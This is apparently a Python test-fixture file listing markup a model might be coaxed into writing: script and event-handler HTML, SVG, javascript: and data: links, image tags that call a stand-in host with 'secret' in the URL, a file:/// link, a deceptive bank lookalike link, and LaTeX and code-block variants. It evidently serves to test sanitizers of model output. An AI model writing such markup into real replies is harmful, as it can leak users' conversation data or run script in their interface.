"""What a model may be made to write, or a document to hold: Markdown, HTML, SVG, links, formulas and code."""

from __future__ import annotations

AWAY = "https://away.example/take?words=secret"
SCRIPT = "window.hit = 1"

HTML = (
    f"<script>{SCRIPT}</script>",
    f"Before <script>{SCRIPT}</script> after",
    f'<script src="{AWAY}"></script>',
    f'<img src=x onerror="{SCRIPT}">',
    f'<img src="{AWAY}">',
    f'<svg onload="{SCRIPT}"><circle r="9"/></svg>',
    f'<svg><use href="{AWAY}#a"/></svg>',
    f'<iframe src="javascript:{SCRIPT}"></iframe>',
    f'<iframe src="{AWAY}"></iframe>',
    f'<iframe srcdoc="&lt;script&gt;parent.{SCRIPT}&lt;/script&gt;"></iframe>',
    f'<object data="{AWAY}"></object>',
    f'<embed src="{AWAY}">',
    f'<link rel="stylesheet" href="{AWAY}">',
    f'<style>@import "{AWAY}"; body {{ background: url({AWAY}) }}</style>',
    f'<div style="background: url({AWAY})">styled</div>',
    f'<meta http-equiv="refresh" content="0; url={AWAY}">',
    f'<base href="{AWAY}">',
    f'<form action="{AWAY}"><button autofocus onfocus="{SCRIPT}">send</button></form>',
    f'<details open ontoggle="{SCRIPT}">more</details>',
    f'<video src="{AWAY}" onerror="{SCRIPT}"></video><audio src="{AWAY}"></audio>',
    f'<a href="javascript:{SCRIPT}">a link in HTML</a>',
    f'<input autofocus onfocus="{SCRIPT}"><textarea autofocus>{SCRIPT}</textarea>',
    f'<math><mtext><img src=x onerror="{SCRIPT}"></mtext></math>',
    f'A cell | another\n---|---\n<img src=x onerror="{SCRIPT}"> | <br onclick="{SCRIPT}">',
    f"<!-- <script>{SCRIPT}</script> -->",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt; &#60;script&#62;{SCRIPT}&#60;/script&#62;",
)

LINKS = (
    f"[words](javascript:{SCRIPT})",
    f"[words](JaVaScRiPt:{SCRIPT})",
    f"[words](&#106;avascript:{SCRIPT})",
    f"[words](data:text/html,<script>{SCRIPT}</script>)",
    f"[words](vbscript:{SCRIPT})",
    "[words](file:///etc/hostname)",
    f"<javascript:{SCRIPT}>",
    f"[reference][away]\n\n[away]: javascript:{SCRIPT}",
    f"[![picture]({AWAY})]({AWAY})",
    f'[title]({AWAY} "a title\\" onmouseover=\\"{SCRIPT}")',
    "[https://bank.example](https://bank.example@away.example/)",
    "[//away.example/relative](//away.example/relative) [up](/v1/export)",
    f"{AWAY} and www.away.example and someone@away.example",
)

IMAGES = (
    f"![picture]({AWAY})",
    f"![picture][away]\n\n[away]: {AWAY}",
    f"![]({AWAY}&amp;more)",
    f"![picture](data:image/svg+xml,<svg onload='{SCRIPT}'/>)",
    f"![picture](blob:{AWAY})",
)

FORMULAS = (
    f"$\\href{{javascript:{SCRIPT}}}{{x}}$",
    f"$$\n\\includegraphics{{{AWAY}}}\n$$",
    f"\\(\\htmlStyle{{background: url({AWAY})}}{{x}}\\)",
    f'\\[\\htmlData{{x=1, onclick="{SCRIPT}"}}{{y}}\\]',
    f"$\\url{{{AWAY}}}^2$ $\\def\\a{{\\a\\a}}\\a$",
)

CODE = (
    f"```html\n<script>{SCRIPT}</script>\n<img src=x onerror='{SCRIPT}'>\n```",
    f'```"><img src=x onerror={SCRIPT}>\ncode\n```',
    f"`<img src=x onerror={SCRIPT}>` and ``<script>{SCRIPT}</script>``",
    f"```mermaid\ngraph TD; A[<img src=x onerror={SCRIPT}>]\n```",
    f"    <script>{SCRIPT}</script>",
    f"```svg\n<svg onload='{SCRIPT}'></svg>",
)

REPLIES = HTML + LINKS + IMAGES + FORMULAS + CODE
